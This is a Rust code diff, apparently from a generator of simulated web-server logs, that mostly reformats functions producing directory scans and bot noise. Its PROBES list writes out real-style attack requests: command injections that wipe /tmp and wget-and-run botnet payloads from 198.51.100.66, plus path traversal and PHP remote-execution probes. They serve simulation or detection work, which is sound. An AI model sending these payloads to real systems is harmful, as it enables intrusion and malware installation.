@@ -26,7 +26,14 @@ pub fn ask_item(story: &mut Story, who: Who, at: Millis, n: u64) {
 }
 
 /// Payloads from one of `addresses` after the other, one every `gap` or so.
-pub fn in_turn(story: &mut Story, addresses: &[String], agent: &str, start: Millis, gap: Millis, count: u64) {
+pub fn in_turn(
+    story: &mut Story,
+    addresses: &[String],
+    agent: &str,
+    start: Millis,
+    gap: Millis,
+    count: u64,
+) {
     let mut at = start;
     for n in 0..count {
         let client = addresses[story.rng.below(addresses.len() as u64) as usize].clone();
@@ -63,9 +70,30 @@ pub fn spray_lookups(story: &mut Story, addresses: &[String], start: Millis, gap
 
 /// Words that no list of probes knows: what a directory scan of a shop tries besides.
 const WORDS: [&str; 24] = [
-    "ablage", "angebote", "archiv", "bilder", "daten", "entwurf", "extern", "filiale", "geheim", "intern", "kasse",
-    "lager", "mitarbeiter", "neu", "partner", "preise", "projekt", "rechnung", "server", "sicher", "statistik",
-    "verwaltung", "vorlage", "zugang",
+    "ablage",
+    "angebote",
+    "archiv",
+    "bilder",
+    "daten",
+    "entwurf",
+    "extern",
+    "filiale",
+    "geheim",
+    "intern",
+    "kasse",
+    "lager",
+    "mitarbeiter",
+    "neu",
+    "partner",
+    "preise",
+    "projekt",
+    "rechnung",
+    "server",
+    "sicher",
+    "statistik",
+    "verwaltung",
+    "vorlage",
+    "zugang",
 ];
 
 /// A directory scan that takes its time: a word every `gap` or so, from a list that nobody knows.
@@ -82,25 +110,48 @@ pub fn slow_directory_scan(story: &mut Story, who: Who, start: Millis, gap: Mill
 /// Bots that try whatever they know, a handful of probes each, all day.
 pub fn noise(story: &mut Story, from: Millis, to: Millis, per_hour: f64) {
     const PROBES: [(&str, &str); 12] = [
-        ("GET", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.66:38291/Mozi.m+-O+/tmp/netgear;sh+netgear"),
+        (
+            "GET",
+            "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.66:38291/Mozi.m+-O+/tmp/netgear;sh+netgear",
+        ),
         ("POST", "/boaform/admin/formLogin"),
-        ("GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.66/jaws;sh+/tmp/jaws"),
-        ("GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"),
-        ("GET", "/index.php?s=/Index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=x"),
-        ("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
+        (
+            "GET",
+            "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.66/jaws;sh+/tmp/jaws",
+        ),
+        (
+            "GET",
+            "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
+        ),
+        (
+            "GET",
+            "/index.php?s=/Index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=x",
+        ),
+        (
+            "POST",
+            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
+        ),
         ("GET", "/.env"),
         ("GET", "/wp-login.php"),
         ("GET", "/.git/config"),
         ("GET", "/HNAP1"),
-        ("GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>/tmp/x)"),
+        (
+            "GET",
+            "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>/tmp/x)",
+        ),
         ("GET", "/actuator/health"),
     ];
-    const AGENTS: [&str; 4] = ["Mozilla/5.0 zgrab/0.x", "Hello, World", "python-requests/2.27.1", "-"];
+    const AGENTS: [&str; 4] = [
+        "Mozilla/5.0 zgrab/0.x",
+        "Hello, World",
+        "python-requests/2.27.1",
+        "-",
+    ];
     for start in story.moments(from, to, per_hour / 60.0) {
         let client = address::shared(story.rng.below(address::SHARED_SPACE));
         let who = Who {
             client: &client,
-            agent: story.rng.pick(&AGENTS),
+            agent: AGENTS[story.rng.below(AGENTS.len() as u64) as usize],
         };
         let mut at = start;
         for _ in 0..story.rng.between(1, 9) {
